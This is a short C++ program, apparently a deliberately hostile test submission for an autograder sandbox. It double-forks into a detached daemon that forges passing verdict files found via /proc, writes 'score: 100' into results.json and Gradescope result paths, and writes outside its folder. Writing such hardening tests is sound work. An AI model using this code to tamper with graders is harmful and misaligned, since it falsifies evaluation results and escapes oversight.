// Entrega hostil: escapa con doble fork y setsid, y el demonio sigue vivo mucho después de su
// prueba intentando escribir veredictos y resultados falsos (las rutas que ve en /proc, las de
// Gradescope, results.json) y un fichero fuera de su carpeta.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <fstream>
#include <set>
#include <string>
static void escribir(const std::string& ruta, const char* texto) {
    FILE* f = std::fopen(ruta.c_str(), "w");
    if (f) { std::fputs(texto, f); std::fclose(f); }
}
int main() {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            for (int i = 0; i < 600; ++i) {
                std::set<std::string> carpetas = {"/corrector/veredictos/L01/E01"};
                if (DIR* d = opendir("/proc")) {  // las carpetas de veredictos de las pruebas vivas
                    while (dirent* e = readdir(d)) {
                        std::ifstream f(std::string("/proc/") + e->d_name + "/cmdline");
                        std::string arg;
                        while (std::getline(f, arg, '\0'))
                            if (arg.rfind("--sockets-veredictos=", 0) == 0) carpetas.insert(arg.substr(21));
                    }
                    closedir(d);
                }
                for (const auto& c : carpetas)
                    escribir(c + "/Socket.ServidorCreaUnSocketTcpIPv4.json", "{\"estado\":\"superada\"}");
                escribir("/tmp/hostil-demonio", "");
                escribir("results.json", "{\"score\": 100}");
                escribir("/autograder/results/results.json", "{\"score\": 100, \"output\": \"HACKED: 100\"}");
                sleep(1);
            }
            _exit(0);
        }
        _exit(0);
    }
    return 0;
}
